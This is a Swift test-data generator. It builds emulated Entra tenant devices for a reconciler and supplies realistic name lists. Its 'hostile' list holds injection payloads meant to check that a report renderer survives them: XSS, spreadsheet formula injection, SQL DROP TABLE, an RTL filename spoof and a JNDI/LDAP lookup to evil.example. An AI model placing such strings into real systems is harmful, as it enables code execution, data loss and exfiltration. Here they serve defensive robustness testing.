import Foundation

/// What a generated device is, from a reconciler's point of view.
enum DeviceCategory {
    /// Ordinary device of an active user (any OS, mostly enabled).
    case active
    /// Enabled Entra-joined Windows device: a leftover the client disables with PATCH (204).
    case cloudWindows
    /// Enabled registered (Workplace) iOS/Android device: a leftover Graph refuses to PATCH app-only (400).
    case mobile
    /// Enabled hybrid-joined device synced from AD: must be flagged for AD, not PATCHed.
    case synced
    /// Already disabled: nothing to do.
    case alreadyDisabled
}

extension TenantBuilder {
    /// `devicesPerUser` 1.5 means one device each plus a second for half the users.
    mutating func addDevices(for user: EmulatedUser, category: (Int) -> DeviceCategory) {
        let whole = Int(spec.devicesPerUser)
        let count = whole + (random.chance(spec.devicesPerUser - Double(whole)) ? 1 : 0)
        for ordinal in 0..<count {
            addDevice(owner: user, category: category(ordinal), firstName: user.givenName ?? "User")
        }
    }

    mutating func addDevice(owner: EmulatedUser?, category: DeviceCategory, firstName: String) {
        let os: String, trust: String
        var enabled = true, synced: Bool? = nil
        switch category {
        case .active:
            let roll = random.below(100)
            (os, trust) = roll < 45 ? ("Windows", "AzureAd") : roll < 60 ? ("Windows", "ServerAd")
                : roll < 75 ? ("iOS", "Workplace") : roll < 90 ? ("Android", "Workplace") : ("MacMDM", "Workplace")
            enabled = random.chance(0.95)
            synced = trust == "ServerAd" ? true : nil
        case .cloudWindows:
            (os, trust) = ("Windows", "AzureAd")
        case .mobile:
            (os, trust) = random.chance(0.5) ? ("iOS", "Workplace") : ("Android", "Workplace")
        case .synced:
            (os, trust, synced) = ("Windows", "ServerAd", true)
        case .alreadyDisabled:
            (os, trust) = random.pick([("Windows", "AzureAd"), ("iOS", "Workplace"), ("Android", "Workplace")])
            enabled = false
        }
        var name = deviceName(os: os, firstName: firstName)
        if spec.hostileNames && tenant.devices.count % 23 == 7 { name = Names.hostile[(tenant.devices.count / 23) % Names.hostile.count] }
        let managed = trust == "AzureAd" || os == "MacMDM" ? true : trust == "ServerAd" ? random.chance(0.7) : random.chance(0.3)
        tenant.devices.append(EmulatedDevice(
            id: random.guid(), deviceId: random.guid(), displayName: name, accountEnabled: enabled,
            operatingSystem: os, operatingSystemVersion: random.pick(Names.versions[os] ?? ["1.0"]), trustType: trust,
            isManaged: managed, isCompliant: managed ? random.chance(0.85) : nil, onPremisesSyncEnabled: synced,
            registeredOwnerIds: owner.map { [$0.id] } ?? [],
            approximateLastSignInDateTime: random.chance(0.05) ? nil : spec.now - TimeInterval(random.below(120 * 86_400))))
    }

    private mutating func deviceName(os: String, firstName: String) -> String {
        switch os {
        case "Windows":
            let alphabet = Array("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789")
            return random.pick(["DESKTOP-", "LAPTOP-", "CONTOSO-"]) + String((0..<7).map { _ in random.pick(alphabet) })
        case "iOS": return "\(firstName)'s " + random.pick(["iPhone", "iPad"])
        case "Android": return random.pick(["Galaxy S23", "Pixel 8", "Galaxy A54", "moto g84"])
        default: return "\(firstName)'s MacBook Pro"
        }
    }
}

/// Word lists for realistic-looking tenants, and the hostile strings a report renderer must survive.
enum Names {
    static let first = ["Adele", "Alex", "Allan", "Bianca", "Christie", "Debra", "Diego", "Enrico", "Emily", "Grady",
                        "Henrietta", "Irvin", "Isaiah", "Johanna", "Joni", "Lee", "Lidia", "Lynne", "Megan", "Miriam",
                        "Nestor", "Patti", "Pradeep", "Raul", "Sakura", "Søren", "Zoë", "Ngozi", "Mateo", "Aiyana",
                        "Chen", "Fatima", "Olamide", "Priya", "Tomás", "Yuki", "Kwame", "Ingrid", "Dmitri", "Amara"]
    static let last = ["Vance", "Wilber", "Deyoung", "Pires", "Cline", "Berger", "Siciliani", "Cattaneo", "Braun",
                       "Archie", "Mueller", "Sayers", "Langer", "Lorenz", "Sherman", "Gu", "Holloway", "Robbins",
                       "Bowen", "Graham", "Wilke", "Fernandez", "Gupta", "Razo", "Tanaka", "Jørgensen", "O'Brien",
                       "Okafor", "García", "Nakai", "Wei", "Haddad", "Adeyemi", "Raman", "Núñez", "Sato", "Mensah",
                       "Lindqvist", "Volkov", "Eze"]
    static let jobTitles = ["Account Manager", "Software Engineer", "Sales Representative", "HR Generalist",
                            "Finance Analyst", "Marketing Specialist", "Support Engineer", "Product Manager",
                            "Designer", "Operations Lead", "Legal Counsel", "Data Scientist"]
    static let versions: [String: [String]] = [
        "Windows": ["10.0.19045.5131", "10.0.22631.4460", "10.0.26100.2314"],
        "iOS": ["17.6.1", "18.1", "18.1.1"],
        "Android": ["13.0", "14.0", "15.0"],
        "MacMDM": ["14.7.1 (23H222)", "15.1 (24B83)"],
    ]
    static let hostile = [
        "<img src=x onerror=alert(1)>",
        "=cmd|' /C calc'!A0",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "@HYPERLINK(\"http://evil.example\",\"click\")",
        "\u{202E}gnp.exe\u{202C} Rachel RTL",
        "Robert'); DROP TABLE users;--",
        "Line\nBreak\tTab \"Quoted\" \\Backslash",
        String(repeating: "Ω", count: 300),
        "{{7*7}} ${jndi:ldap://evil.example/a}",
        "Zalgo Z̷̢͓a̸l̵g̶o̴ 😀👩🏽‍💻",
    ]

    /// Letters only, lower-cased and ASCII-folded (NFD drops accents), for the local part of a UPN.
    static func mailSafe(_ name: String) -> String {
        let folded = name.lowercased().replacingOccurrences(of: "ø", with: "o").decomposedStringWithCanonicalMapping
        return String(folded.unicodeScalars.filter { ("a"..."z").contains($0) }.map(Character.init))
    }

    /// Precomputed once: folding per generated user would dominate a 100k-user run.
    static let mailSafeFirst = first.map(mailSafe)
    static let mailSafeLast = last.map(mailSafe)
}
